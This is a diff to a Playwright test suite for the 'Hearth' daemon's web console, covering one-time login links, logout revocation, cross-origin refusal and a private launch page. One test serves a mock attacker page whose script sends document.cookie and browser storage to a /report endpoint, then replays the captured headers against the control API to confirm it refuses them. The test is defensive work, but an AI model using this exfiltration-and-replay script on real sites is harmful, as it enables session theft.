@@ -1,18 +1,21 @@
 // The web console at /_hearth/, in a real headless Chromium (the Debian
 // chromium package, driven by playwright-core): the CLI's one-time link
 // logs the browser in, the page shows the daemon's state and how to connect
-// a client, and a screenshot is kept in artifacts/console.png.
+// a client, and a screenshot is kept in artifacts/console.png. A console
+// session is a header the page's own script sends, never a cookie, so
+// another local user's server on 127.0.0.1 gets nothing it can replay.
 
 import { after, before, test } from "node:test";
 import assert from "node:assert/strict";
 import { execFile } from "node:child_process";
-import { mkdir, mkdtemp, rm } from "node:fs/promises";
+import http from "node:http";
+import { chmod, mkdir, mkdtemp, readFile, rm, stat, writeFile } from "node:fs/promises";
 import os from "node:os";
 import path from "node:path";
 import { fileURLToPath } from "node:url";
 import { promisify } from "node:util";
 import { chromium } from "playwright-core";
-import { HEARTH_BIN, Hearth, SERVER_NAME, freePort } from "./hearth.mjs";
+import { HEARTH_BIN, Hearth, SERVER_NAME, freePort, sleep } from "./hearth.mjs";
 
 const CHROMIUM = process.env.CHROMIUM_BIN ?? "/usr/bin/chromium";
 const artifacts = path.join(path.dirname(fileURLToPath(import.meta.url)), "artifacts");
@@ -62,12 +65,35 @@ test("the one-time link opens the console, which shows the server and how to con
     await mkdir(artifacts, { recursive: true });
     await page.screenshot({ path: path.join(artifacts, "console.png"), fullPage: true });
 
+    // The code left the address bar once redeemed, and no cookie was set.
+    assert.equal(new URL(page.url()).hash, "");
+    assert.deepEqual(await page.context().cookies(), []);
+
     // The link worked once; a second browser gets nowhere with it.
     const other = await browser.newContext();
     const stranger = await other.newPage();
-    const res = await stranger.goto(link);
-    assert.equal(res.status(), 401);
+    await stranger.goto(link);
+    await stranger.waitForSelector("body[data-error]", { timeout: 10_000 });
+    assert.match(await stranger.textContent("#signed-out"), /used or expired/);
+    assert.equal(await stranger.isVisible("main"), false);
     await other.close();
+});
+
+test("logging out ends the session, for this page and for anyone holding its token", async () => {
+    const context = await browser.newContext();
+    const page = await context.newPage();
+    await page.goto(await consoleLink());
+    await page.waitForSelector("body[data-loaded=true]", { timeout: 10_000 });
+    const token = await page.evaluate(() => sessionStorage.getItem("hearth_session"));
+    const asSession = () => fetch(hearth.baseUrl + "/_hearth/v1/status", { headers: { "X-Hearth-Session": token } });
+    assert.equal((await asSession()).status, 200);
+    await page.click("#logout");
+    await page.waitForSelector("body[data-logged-out=true]", { timeout: 10_000 });
+    assert.equal((await asSession()).status, 401);
+    await page.reload();
+    await page.waitForSelector("body[data-error]", { timeout: 10_000 });
+    assert.equal(await page.isVisible("#signed-out"), true);
+    await context.close();
 });
 
 test("a page from another origin cannot read the control API", async () => {
@@ -85,4 +111,98 @@ test("a page from another origin cannot read the control API", async () => {
         }
     }, hearth.baseUrl);
     assert.equal(outcome, "refused");
+});
+
+test("a page on another port of 127.0.0.1 gets nothing that opens the control API", async () => {
+    // The owner's browser is logged in to the console...
+    const context = await browser.newContext();
+    const page = await context.newPage();
+    await page.goto(await consoleLink());
+    await page.waitForSelector("body[data-loaded=true]", { timeout: 10_000 });
+
+    // ...and then visits a page another local user serves on another port
+    // of 127.0.0.1. Cookies ignore ports, so whatever the browser sends to
+    // it is recorded, as an attacker's server would.
+    const seen = [];
+    const evil = http.createServer((req, res) => {
+        seen.push(req.headers);
+        if (req.url === "/") {
+            res.writeHead(200, { "Content-Type": "text/html" });
+            // Same-origin requests to its own server, on the paths a console
+            // cookie would be scoped to; the page also reads its own storage.
+            res.end(`<script>
+                Promise.all(["/_hearth/", "/_hearth/v1/status", "/_hearth/v1/open"].map(p => fetch(p, { credentials: "include" })))
+                  .then(() => fetch("/report", { method: "POST", body: JSON.stringify({ cookie: document.cookie,
+                      session: Object.entries(sessionStorage), local: Object.entries(localStorage) }) }))
+                  .then(() => { document.body.dataset.done = "true"; });
+            </script><body>hello</body>`);
+            return;
+        }
+        let body = "";
+        req.on("data", (c) => { body += c; });
+        req.on("end", () => {
+            if (req.url === "/report") seen.push({ reported: body });
+            res.writeHead(404);
+            res.end();
+        });
+    });
+    const evilPort = await freePort();
+    await new Promise((r) => evil.listen(evilPort, "127.0.0.1", r));
+    try {
+        await page.goto(`http://127.0.0.1:${evilPort}/`);
+        await page.waitForSelector("body[data-done=true]", { timeout: 10_000 });
+
+        // Replay every header the attacker saw against Hearth's control API,
+        // as the attacker's server (no Origin: not a browser request).
+        const stolen = {};
+        for (const h of seen) {
+            for (const name of ["cookie", "authorization", "x-hearth-session"]) {
+                if (h[name]) stolen[name] = h[name];
+            }
+        }
+        for (const [method, p, body] of [["GET", "/_hearth/v1/status"], ["POST", "/_hearth/v1/open", "{}"],
+            ["POST", "/_hearth/v1/console", "{}"]]) {
+            const r = await fetch(hearth.baseUrl + p, { method, headers: stolen, body });
+            assert.equal(r.status, 401, `${method} ${p} with ${JSON.stringify(stolen)}: HTTP ${r.status}`);
+        }
+        const report = JSON.parse(seen.find((h) => h.reported).reported);
+        assert.deepEqual(report, { cookie: "", session: [], local: [] });
+    } finally {
+        evil.close();
+        await context.close();
+    }
+});
+
+test("'hearth open' hands the browser a private launch page, which leads to the console signed in", async () => {
+    // A stand-in xdg-open that only records what it was given.
+    const spyDir = await mkdtemp(path.join(os.tmpdir(), "hearth-spy-"));
+    const runtimeDir = await mkdtemp(path.join(os.tmpdir(), "hearth-runtime-"));
+    try {
+        await writeFile(path.join(spyDir, "xdg-open"), `#!/bin/sh\nprintf '%s\\n' "$@" > ${spyDir}/argv\n`);
+        await chmod(path.join(spyDir, "xdg-open"), 0o755);
+        const { stdout } = await run(HEARTH_BIN, ["open", "--data-dir", dataDir,
+            "--client-listen", `127.0.0.1:${hearth.port}`, "--key-store", "file"],
+        { env: { ...process.env, PATH: `${spyDir}:${process.env.PATH}`, XDG_RUNTIME_DIR: runtimeDir } });
+        assert.doesNotMatch(stdout, /code=/);
+        let argv;
+        for (let i = 0; i < 200 && argv === undefined; i++) {
+            argv = await readFile(path.join(spyDir, "argv"), "utf8").catch(() => undefined);
+            if (argv === undefined) await sleep(25);
+        }
+        assert.match(argv, /^file:\/\/\/.*\.html\n$/);
+        assert.doesNotMatch(argv, /code=/);
+        const launch = new URL(argv.trim());
+        assert.equal((await stat(launch.pathname)).mode & 0o777, 0o600);
+
+        const context = await browser.newContext();
+        const page = await context.newPage();
+        await page.goto(launch.href);
+        await page.waitForSelector("body[data-loaded=true]", { timeout: 10_000 });
+        assert.equal(new URL(page.url()).origin, hearth.baseUrl);
+        assert.match(await page.textContent("#server"), new RegExp(SERVER_NAME));
+        await context.close();
+    } finally {
+        await rm(spyDir, { recursive: true, force: true });
+        await rm(runtimeDir, { recursive: true, force: true });
+    }
 });
